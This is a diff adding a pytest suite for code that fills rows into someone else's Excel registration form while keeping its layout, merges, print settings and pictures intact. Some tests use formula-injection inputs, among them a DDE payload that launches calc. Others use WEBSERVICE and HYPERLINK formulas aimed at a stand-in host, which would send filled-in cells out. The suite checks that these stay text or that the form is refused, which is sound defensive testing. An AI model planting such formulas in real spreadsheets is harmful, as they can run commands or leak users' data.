@@ -1,0 +1,202 @@
+"""A form of somebody else's keeps its look: only rows come in, and what stands below moves down."""
+
+import io
+import zipfile
+from collections.abc import Iterator
+from contextlib import contextmanager
+
+import openpyxl
+import pytest
+from openpyxl.comments import Comment
+from openpyxl.utils import get_column_letter
+from openpyxl.worksheet.formula import ArrayFormula
+from openpyxl.worksheet.table import Table
+from python_calamine import CalamineWorkbook
+
+from awards.their_form import filled_in, read_form
+from competition.errors import Refused
+from tests.factories.forms_above import GUANGZHOU, NOTE, SIGNED, their_form
+
+NAUGHTY = [
+    "=1+1",
+    "+86",
+    "-2",
+    "@SUM(A1)",
+    "=cmd|' /C calc'!A0",
+    "341199201205010027",
+    "007",
+    "_x0041_",
+    "a\x00b",
+    "甲\n乙",
+]
+
+
+@contextmanager
+def refused(code: str) -> Iterator[None]:
+    with pytest.raises(Refused) as found:
+        yield
+    assert found.value.denial.code == code
+
+
+def sheet_of(data: bytes) -> openpyxl.worksheet.worksheet.Worksheet:
+    return openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
+
+
+def filled(data: bytes, number: int = 6) -> bytes:
+    form = read_form(data)
+    rows = [[at if one.code == "row" else f"{one.heading}{at}" if one.code else "" for one in form.columns]
+            for at in range(1, number + 1)]  # fmt: skip
+    return filled_in(data, sheet=form.sheet, first=form.first, columns=form.columns, rows=rows)
+
+
+def merges(sheet) -> set[str]:
+    return {str(one) for one in sheet.merged_cells.ranges}
+
+
+@pytest.mark.parametrize("year", GUANGZHOU)
+@pytest.mark.parametrize("number", [2, 3, 9])
+def test_rows_stand_under_the_headings_and_the_notes_below_them(year, number):
+    row, _left, headings = GUANGZHOU[year]
+    empty = their_form(headings, row=row)
+    before, after = sheet_of(empty), sheet_of(filled(empty, number))
+    down = max(0, number - 3)
+    for at in range(1, row + 1):  # titles and headings
+        assert [cell.value for cell in after[at]] == [cell.value for cell in before[at]]
+        assert [cell.font.name for cell in after[at]] == [cell.font.name for cell in before[at]]
+    for at in range(number):
+        said = [str(at + 1) if one == "序号" else f"{one}{at + 1}" for one in headings]
+        said = ["None" if one.startswith("备注") else one for one in said]
+        assert [str(cell.value) for cell in after[row + 1 + at]] == said
+        assert {cell.border.left.style for cell in after[row + 1 + at]} == {"thin"}
+        assert {cell.font.name for cell in after[row + 1 + at]} == {"仿宋"}
+        assert after.row_dimensions[row + 1 + at].height == 27
+    foot = row + 4 + down
+    assert (after.cell(foot, 1).value, after.cell(foot + 1, 1).value) == (NOTE, SIGNED)
+    assert after.row_dimensions[foot].height == 33 and after.cell(foot, 1).font.name == "楷体"
+    assert after.cell(foot + 1, 2).value == f"=COUNTA(B{row + 1}:B{row + 3 + down})"
+    last = get_column_letter(len(headings))
+    assert {f"A{at}:{last}{at}" for at in (*range(1, row), foot)} <= merges(after)
+    assert len(merges(after)) == len(merges(before)) and after.max_row == before.max_row + down
+    assert str(after.data_validations.dataValidation[0].sqref) == f"E{row + 1}:E{row + 3 + down}"
+    assert after.print_area == f"'报名表'!$A$1:${last}${row + 5 + down}" and after.print_title_rows == f"$1:${row}"
+    assert (after.page_setup.orientation, after.page_setup.paperSize) == ("landscape", 8)
+    assert {key: one.width for key, one in after.column_dimensions.items()} == {
+        key: one.width for key, one in before.column_dimensions.items()
+    }
+
+
+def test_naughty_texts_stay_text_and_every_digit():
+    empty = their_form(["序号", *(f"列{at}" for at in range(len(NAUGHTY)))])
+    form = read_form(empty)
+    done = filled_in(empty, sheet=form.sheet, first=4, columns=form.columns, rows=[[1, *NAUGHTY]])
+    row = CalamineWorkbook.from_filelike(io.BytesIO(done)).get_sheet_by_index(0).to_python()[3]
+    assert row[1:8] == NAUGHTY[:7] and row[9:] == ["ab", "甲\n乙"]
+    part = zipfile.ZipFile(io.BytesIO(done)).read("xl/worksheets/sheet1.xml")
+    assert part.count(b"<f>") == 1 and b"_x005F_x0041_" in part  # the form's own sum; an escape that was typed
+    cells = sheet_of(done)[4][1:]
+    assert {cell.number_format for cell in cells} == {"@"} and {cell.data_type for cell in cells} <= {"s", "inlineStr"}
+
+
+def test_equal_forms_and_rows_give_equal_bytes_and_parts_that_name_no_row_stay_as_they_are():
+    empty = their_form(GUANGZHOU["2025"][2], picture=True)
+    done = filled(empty)
+    assert done == filled(empty)
+    was, now = (zipfile.ZipFile(io.BytesIO(data)) for data in (empty, done))
+    assert was.namelist() == now.namelist()
+    same = {name for name in was.namelist() if was.read(name) == now.read(name)}
+    assert {"xl/media/image1.png", "xl/theme/theme1.xml", "docProps/core.xml", "xl/worksheets/sheet2.xml"} <= same
+
+
+def test_a_picture_below_moves_with_the_notes():
+    empty = their_form(GUANGZHOU["2025"][2], picture=True)
+    (before,), (after,) = sheet_of(empty)._images, sheet_of(filled(empty, 9))._images
+    assert after.anchor._from.row == before.anchor._from.row + 6
+
+
+def test_a_text_that_is_wider_than_its_column_is_read_whole():
+    empty = their_form(["序号", "项目名称"])
+    form = read_form(empty)
+    rows = [[1, "会走路的花盆和一只会飞的水壶的研究" * 2], [2, "花盆"]]
+    after = sheet_of(filled_in(empty, sheet=form.sheet, first=4, columns=form.columns, rows=rows))
+    assert after["B4"].alignment.wrap_text and not after["B5"].alignment.wrap_text
+    assert after.row_dimensions[4].height > after.row_dimensions[5].height == 27
+
+
+def test_without_an_empty_row_the_look_is_that_of_the_headings_in_plain_letters():
+    empty = their_form(GUANGZHOU["2025"][2], empty=0)
+    assert (read_form(empty).first, read_form(empty).below) == (4, 4)
+    after = sheet_of(filled(empty, 2))
+    assert after["B4"].value == "项目1" and after.cell(6, 1).value == NOTE
+    assert after["B4"].font.name == "黑体" and not after["B4"].font.b and after["B4"].fill.fill_type is None
+    assert after["B4"].border.left.style == "thin" and after["B3"].font.b
+
+
+def test_without_notes_as_many_rows_follow_as_there_are_and_all_are_printed():
+    empty = their_form(GUANGZHOU["2025"][2], has_notes=False)
+    assert read_form(empty).below == 0
+    after = sheet_of(filled(empty, 40))
+    assert after.max_row == 43 and after["B43"].border.left.style == "thin"
+    assert after.print_area.endswith("$43") and str(after.data_validations.dataValidation[0].sqref) == "E4:E43"
+
+
+def test_headings_of_two_storeys_say_whose_a_column_is_and_cells_joined_in_a_row_are_joined_in_all():
+    book = openpyxl.Workbook()
+    sheet = book.active
+    for place, text in {"A1": "报名表", "A2": "序号", "B2": "项目名称", "D2": "作者", "F2": "辅导教师", "D3": "姓名",
+                        "E3": "性别", "F3": "姓名", "G3": "电话", "A6": "说明"}.items():  # fmt: skip
+        sheet[place] = text
+    for place in ("A1:G1", "A2:A3", "B2:C3", "D2:E2", "F2:G2", "B4:C4", "B5:C5"):
+        sheet.merge_cells(place)
+    out = io.BytesIO()
+    book.save(out)
+    form = read_form(out.getvalue())
+    assert (form.first, form.below) == (4, 6)
+    assert [(one.at, one.heading, one.code) for one in form.columns] == [
+        (1, "序号", "row"), (2, "项目名称", "title"), (4, "作者·姓名", "authors"), (5, "作者·性别", ""),
+        (6, "辅导教师·姓名", ""), (7, "辅导教师·电话", "late-tutor-phone"),
+    ]  # fmt: skip
+    after = sheet_of(filled(out.getvalue(), 4))
+    assert {"B4:C4", "B5:C5", "B6:C6", "B7:C7", "B2:C3"} <= merges(after) and after["A8"].value == "说明"
+    assert after["B7"].value == "项目名称4" and after["F7"].value is None
+
+
+def test_tables_remarks_and_numbers_by_formula_come_along():
+    book = openpyxl.Workbook()
+    sheet = book.active
+    for row in (["序号", "项目", "编号"], ["=ROW()-1", None, None], ["=ROW()-1", None, None], ["说明"]):
+        sheet.append(row)
+    sheet["D2"] = ArrayFormula("D2:D3", "=B2:B3")
+    sheet["A4"].comment = Comment("盖章", "省")
+    sheet.add_table(Table(displayName="表一", ref="A1:C3"))
+    other = book.create_sheet("合计")
+    other["A1"] = "=Sheet!A4"
+    out = io.BytesIO()
+    book.save(out)
+    done = openpyxl.load_workbook(io.BytesIO(filled(out.getvalue(), 5)))
+    after = done.worksheets[0]
+    assert [after.cell(at, 1).value for at in range(2, 7)] == [1, 2, 3, 4, 5]
+    assert after["A7"].value == "说明" and after["A7"].comment.text == "盖章"
+    assert after.tables["表一"].ref == "A1:C6" and done["合计"]["A1"].value == "=Sheet!A7"
+    assert after["D2"].value is None
+
+
+@pytest.mark.parametrize("formula", ['=WEBSERVICE("http://x.example/"&B4)', '=HYPERLINK("http://x.example/"&B4)',
+                                     "=[1]别!A1", "=cmd|'/C calc'!A0"])  # fmt: skip
+def test_a_form_that_could_carry_away_what_is_filled_in_is_refused(formula):
+    book = openpyxl.Workbook()
+    book.active.append(["项目", "学校"])
+    book.active["D9"] = formula
+    out = io.BytesIO()
+    book.save(out)
+    with refused("layout-form-links"):
+        read_form(out.getvalue())
+
+
+def test_a_list_is_no_empty_form():
+    book = openpyxl.Workbook()
+    for at in range(5_002):
+        book.active.append(["项目", at])
+    out = io.BytesIO()
+    book.save(out)
+    with refused("layout-form-rows"):
+        read_form(out.getvalue())
